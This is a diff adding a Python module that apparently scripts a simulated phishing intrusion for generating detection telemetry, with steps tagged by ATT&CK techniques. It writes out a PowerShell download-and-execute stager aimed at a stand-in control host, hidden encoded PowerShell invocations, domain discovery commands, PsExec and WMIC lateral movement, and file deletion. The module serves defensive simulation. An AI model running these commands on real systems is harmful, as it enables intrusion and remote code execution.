@@ -1,0 +1,122 @@
+"""A document from a mail, an encoded command, a look around, and on to two other hosts."""
+
+from vedette.simulate.story import (
+    Accept,
+    Connect,
+    Delete,
+    End,
+    InstallService,
+    Load,
+    NetworkLogon,
+    Pipe,
+    Run,
+    Script,
+    SetValue,
+    Story,
+    Write,
+    encoded,
+)
+
+_CONTROL = "203.0.113.10"
+_CONTROL_NAME = "cdn-sync.invalid"
+_DOCUMENT = r"<profile>\Downloads\Rechnung_2231_final.docm"
+_STAGER = f"$c=New-Object Net.WebClient;$c.DownloadString('https://{_CONTROL_NAME}/a')|iex"
+_IMPLANT = r"<profile>\AppData\Roaming\SyncHost\synchost.exe"
+_SHELL = "powershell.exe -NoP -NonI -W Hidden -Enc"
+
+PHISHING = Story(
+    name="phishing",
+    title="Phishing document to encoded PowerShell, discovery and lateral movement",
+    hosts=(("desk", "workstation"), ("files", "file_server"), ("iis", "web_server")),
+    hour=10.3,
+    query="process_name:powershell.exe parent_name:winword.exe",
+    steps=(
+        Write(0, "desk", "outlook", "T1566.001", _DOCUMENT),
+        Run(
+            45,
+            "desk",
+            "word",
+            "T1204.002",
+            "explorer",
+            "winword.exe",
+            rf'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{_DOCUMENT}"',
+        ),
+        Load(2, "desk", "word", "T1059.005", r"C:\Windows\System32\amsi.dll"),
+        Run(
+            6,
+            "desk",
+            "stager",
+            "T1059.001",
+            "word",
+            "powershell.exe",
+            f"{_SHELL} {encoded(_STAGER)}",
+        ),
+        Script(1, "desk", "stager", "T1027", _STAGER),
+        Connect(1, "desk", "stager", "T1071.001", _CONTROL, 443, _CONTROL_NAME),
+        Write(4, "desk", "stager", "T1105", _IMPLANT),
+        SetValue(
+            2,
+            "desk",
+            "stager",
+            "T1547.001",
+            r"HKU\<sid>\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SyncHost",
+            _IMPLANT,
+        ),
+        Run(3, "desk", "implant", "T1036.005", "stager", _IMPLANT, f'"{_IMPLANT}" --quiet'),
+        Connect(5, "desk", "implant", "T1071.001", _CONTROL, 443, _CONTROL_NAME),
+        Run(
+            300, "desk", "shell", "T1059.003", "implant", "cmd.exe", r"C:\Windows\system32\cmd.exe"
+        ),
+        Run(4, "desk", "q1", "T1033", "shell", "whoami.exe", "whoami /all"),
+        End(1, "desk", "q1", ""),
+        Run(9, "desk", "q2", "T1482", "shell", "nltest.exe", "nltest /domain_trusts /all_trusts"),
+        End(1, "desk", "q2", ""),
+        Run(7, "desk", "q3", "T1087.002", "shell", "net.exe", 'net group "Domain Admins" /domain'),
+        End(1, "desk", "q3", ""),
+        Run(12, "desk", "q4", "T1018", "shell", "net.exe", "net view /all /domain"),
+        End(1, "desk", "q4", ""),
+        Connect(240, "desk", "implant", "T1021.002", "<files.ip>", 445),
+        NetworkLogon(1, "files", "svc-backup", "T1078.002", "<desk.ip>"),
+        Accept(0.1, "files", "root", "T1021.002", "<desk.ip>", 445),
+        Write(1, "files", "root", "T1570", r"C:\Windows\PSEXESVC.exe"),
+        InstallService(1, "files", "PSEXESVC", "T1569.002", r"%SystemRoot%\PSEXESVC.exe"),
+        Run(
+            1,
+            "files",
+            "psexec",
+            "T1569.002",
+            "services",
+            "psexesvc.exe",
+            r"C:\Windows\PSEXESVC.exe",
+        ),
+        Pipe(0.2, "files", "psexec", "T1569.002", r"\PSEXESVC"),
+        Run(2, "files", "shell", "T1059.003", "psexec", "cmd.exe", '"cmd" /c dir D:\\shares /s /b'),
+        Write(20, "files", "shell", "T1083", r"C:\Windows\Temp\listing.txt"),
+        End(9, "files", "shell", ""),
+        End(2, "files", "psexec", ""),
+        Delete(1, "files", "root", "T1070.004", r"C:\Windows\PSEXESVC.exe"),
+        Run(
+            180,
+            "desk",
+            "wmic",
+            "T1047",
+            "shell",
+            "wmic.exe",
+            f'wmic /node:<iis.name> process call create "{_SHELL} {encoded("iex $env:Q")}"',
+        ),
+        Connect(0.5, "desk", "wmic", "T1047", "<iis.ip>", 135),
+        NetworkLogon(0.5, "iis", "svc-backup", "T1078.002", "<desk.ip>"),
+        Run(
+            0.5,
+            "iis",
+            "remote",
+            "T1047",
+            "wmi",
+            "powershell.exe",
+            f"{_SHELL} {encoded('iex $env:Q')}",
+        ),
+        Connect(2, "iis", "remote", "T1071.001", _CONTROL, 443, _CONTROL_NAME),
+        End(90, "desk", "wmic", ""),
+        End(600, "iis", "remote", ""),
+    ),
+)
